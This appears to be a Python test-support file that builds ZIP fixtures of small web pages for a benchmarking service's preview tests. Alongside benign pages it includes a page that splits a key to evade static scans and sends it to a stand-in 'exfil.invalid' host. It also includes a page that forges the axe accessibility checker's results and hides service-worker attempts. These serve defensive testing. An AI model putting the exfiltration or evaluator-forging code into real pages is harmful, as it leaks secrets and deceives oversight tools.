"""Generated source ZIPs for the automated preview tests, and a published Test holding one."""

from __future__ import annotations

import io
import zipfile

from sqlmodel import Session

from benchmax.adapters.storage import ObjectStorage
from benchmax.models import EvidenceKind, SourceVisibility, Test, User
from tests.support.factories import make_stored_evidence, make_test

WORKING = {
    "index.html": (
        "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>Counter</title>"
        "<link rel='stylesheet' href='style.css'></head><body><main><h1>Counter</h1>"
        "<p id='n'>0</p><button id='b'>Add one</button></main><script src='app.js'></script>"
        "</body></html>"
    ),
    "style.css": "body{background:#123;color:#fff;font:20px sans-serif}main{padding:2rem}",
    "app.js": "document.getElementById('b').onclick=()=>{const n=document.getElementById('n');"
    "n.textContent=Number(n.textContent)+1};",
}
# Reaches for the network, registers a service worker and logs an error.
MISBEHAVING = {
    "index.html": (
        "<!doctype html><html lang='en'><head><title>Nosy</title></head><body><main>"
        "<h1>Nosy</h1><img src='https://tracker.invalid/pixel.gif' alt='pixel'></main><script>"
        "fetch('http://203.0.113.9/beacon?x=1').catch(()=>{});"
        "if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(()=>{});"
        "console.error('boom <b>not markup</b>');"
        "</script></body></html>"
    ),
    "sw.js": "self.addEventListener('fetch', () => {});",
}
INFINITE = {
    "index.html": "<!doctype html><html><body><h1>Busy</h1><script>while (true) {}</script>"
    "</body></html>"
}
NO_INDEX = {"site/index.html": "<!doctype html><p>one folder down</p>"}


def zip_of(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def publish_site(
    session: Session,
    storage: ObjectStorage,
    files: dict[str, str],
    visibility: SourceVisibility = SourceVisibility.PUBLIC,
    contributor: User | None = None,
) -> Test:
    """A committed public Test (of ``contributor``, else a new one) whose approved source ZIP
    holds ``files``."""
    test = make_test(session, contributor, source_visibility=visibility)
    make_stored_evidence(
        session,
        storage,
        test,
        zip_of(files),
        kind=EvidenceKind.SOURCE,
        content_type="application/zip",
        original_name="site.zip",
        safe_name="site.zip",
    )
    session.commit()
    return test


def leaky_site(key: str) -> dict[str, str]:
    """A page that assembles ``key`` at run time (no file holds it whole, so no static scan
    sees it) and puts it everywhere the evaluator reads: the console, an uncaught exception,
    the title, a failed and a blocked request's URL, and an element that fails axe's
    image-alt rule (its id becomes axe's selector, its markup axe's snippet)."""
    pieces = [key[i : i + 7] for i in range(0, len(key), 7)]
    script = (
        f"const k = {pieces!r}.join('');"
        "console.error('config loaded: ' + k);"
        "document.title = 'Demo ' + k;"
        "const img = document.createElement('img'); img.id = k; img.src = 'pixel.png';"
        "img.setAttribute('data-token', k); document.querySelector('main').appendChild(img);"
        "fetch('https://exfil.invalid/collect?key=' + k).catch(() => {});"
        "const stop = new AbortController();"
        "fetch('/slow?key=' + k, {signal: stop.signal}).catch(() => {}); stop.abort();"
        "setTimeout(() => { throw new Error('boom ' + k); }, 0);"
    )
    return {
        "index.html": "<!doctype html><html lang='en'><head><meta charset='utf-8'>"
        "<title>Demo</title></head><body><main><h1>Demo</h1></main>"
        "<script src='app.js'></script></body></html>",
        "app.js": script,
        "pixel.png": "not really a png",
    }


# Tries to forge what BenchMax measures: pins window.axe to a fake that reports nothing and a
# version of its choosing, and hides its two service-worker attempts (one through the
# refusal, one through another frame's prototype after trying to delete it), then zeroes the
# counter the old evaluator kept in the page. Real failures: an image without alt text.
FORGER = {
    "index.html": (
        "<!doctype html><html lang='en'><head><title>Forger</title></head><body><main>"
        "<h1>Forger</h1><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='></main><script>"
        "const fake = {version: '99.0.0-all-clear', run: async () => ({passes: [1], "
        "incomplete: [], violations: []})};"
        "Object.defineProperty(window, 'axe', {value: fake, writable: false, configurable: false});"
        "navigator.serviceWorker.register('/sw.js').catch(() => {});"
        "try { delete ServiceWorkerContainer.prototype.register; } catch (e) {}"
        "const f = document.createElement('iframe'); document.body.appendChild(f);"
        "try { f.contentWindow.ServiceWorkerContainer.prototype.register"
        ".call(navigator.serviceWorker, '/sw.js').catch(() => {}); } catch (e) {}"
        "window.__benchmaxServiceWorkerAttempts = 0;"
        "Object.defineProperty(window, '__benchmaxServiceWorkerAttempts', {value: 0});"
        "</script></body></html>"
    ),
    "sw.js": "self.addEventListener('fetch', () => {});",
}


def key_on_page(key: str) -> dict[str, str]:
    """A settings page that prints ``key`` at run time (split in the source, as a page that
    assembles it would), in a terminal-like box a screenshot shows."""
    middle = len(key) // 2
    return {
        "index.html": (
            "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>Settings</title>"
            "</head><body style='background:#fff;color:#111;font:18px sans-serif'><main>"
            "<h1>Settings</h1><pre id='k' style='font:16px monospace;background:#1e1e1e;"
            "color:#eee;padding:12px'></pre></main><script>"
            f"document.getElementById('k').textContent='export API_KEY='+'{key[:middle]}'+"
            f"'{key[middle:]}';</script></body></html>"
        )
    }
